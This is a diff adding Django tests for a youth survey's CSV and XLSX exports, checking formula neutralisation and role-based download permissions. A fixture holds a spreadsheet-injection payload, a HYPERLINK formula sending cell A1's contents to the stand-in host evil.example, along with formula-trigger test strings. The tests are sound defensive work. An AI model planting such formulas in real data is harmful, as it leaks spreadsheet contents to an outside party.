@@ -1,0 +1,130 @@
+"""Downloads of every response, as CSV and XLSX, safe to open in a spreadsheet."""
+
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from accounts import roles
+from pages.spreadsheets import neutralise_formula
+from tests.surveys.test_results import add_response
+from voice.moderation.models import ModeratedText
+
+INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+44 7700 900000", "'+44 7700 900000"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("A plain answer", "A plain answer"),
+        ("It was = to last time", "It was = to last time"),
+        (-3, -3),
+        (None, None),
+    ],
+)
+def test_text_that_a_spreadsheet_would_run_is_made_plain(value, expected):
+    assert neutralise_formula(value) == expected
+
+
+@pytest.fixture
+def answered(survey):
+    add_response(
+        survey,
+        speaker="young_person",
+        age="14_15",
+        emoji_scale=4,
+        yes_no=1,
+        rating=7,
+        one_choice="Home",
+        several_choices=["Sport", "Trips"],
+        short_text=INJECTED,
+        long_text="Not approved yet",
+    )
+    add_response(survey, yes_no=0)
+    ModeratedText.objects.filter(text=INJECTED).update(
+        status=ModeratedText.Status.APPROVED
+    )
+    return survey
+
+
+@pytest.mark.django_db
+def test_csv_export_has_every_response_with_formulas_neutralised(
+    client, answered, people
+):
+    client.force_login(people[roles.SERVICE_MANAGER])
+    response = client.get(reverse("survey_admin:export_csv", args=[answered.pk]))
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment" in response["Content-Disposition"]
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    header, first, second = rows[0], rows[1], rows[2]
+    assert len(rows) == 3
+    assert header[3:6] == ["Who answered", "Age", "How was today?"]
+    record = dict(zip(header, first))
+    assert record["How was today?"] == "4"
+    assert record["Did you feel safe?"] == "Yes"
+    assert record["What would you like more of?"] == "Sport; Trips"
+    assert record["One good thing?"] == "'" + INJECTED
+    assert record["What should we change?"] == "[waiting for a moderator]"
+    assert record["Who answered"] == "A young person"
+    assert dict(zip(header, second))["Did you feel safe?"] == "No"
+    assert "young" not in body.lower().replace("a young person", "")  # no usernames
+
+
+@pytest.mark.django_db
+def test_xlsx_export_holds_the_injected_formula_as_text(client, answered, people):
+    client.force_login(people[roles.SERVICE_MANAGER])
+    response = client.get(reverse("survey_admin:export_xlsx", args=[answered.pk]))
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert len(rows) == 3
+    header = rows[0]
+    record = dict(zip(header, rows[1]))
+    assert record["One good thing?"] == "'" + INJECTED
+    cell = sheet.cell(row=2, column=header.index("One good thing?") + 1)
+    assert cell.data_type == "s"  # a string, not a formula
+    assert record["How was today?"] == 4
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "role", [roles.YOUNG_PERSON, roles.MODERATOR, roles.CASE_WORKER]
+)
+def test_people_without_the_results_permission_cannot_download(
+    client, answered, people, role
+):
+    client.force_login(people[role])
+    assert (
+        client.get(reverse("survey_admin:export_csv", args=[answered.pk])).status_code
+        == 403
+    )
+    assert (
+        client.get(reverse("survey_admin:results", args=[answered.pk])).status_code
+        == 403
+    )
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "role", [roles.SERVICE_MANAGER, roles.PROGRAMME_STAFF, roles.ADMINISTRATOR]
+)
+def test_service_managers_programme_staff_and_administrators_see_results(
+    client, answered, people, role
+):
+    client.force_login(people[role])
+    assert people[role].has_perm("surveys.view_results")
+    assert (
+        client.get(reverse("survey_admin:results", args=[answered.pk])).status_code
+        == 200
+    )
+    staff_home = client.get("/staff/").content.decode()
+    assert "Survey results" in staff_home
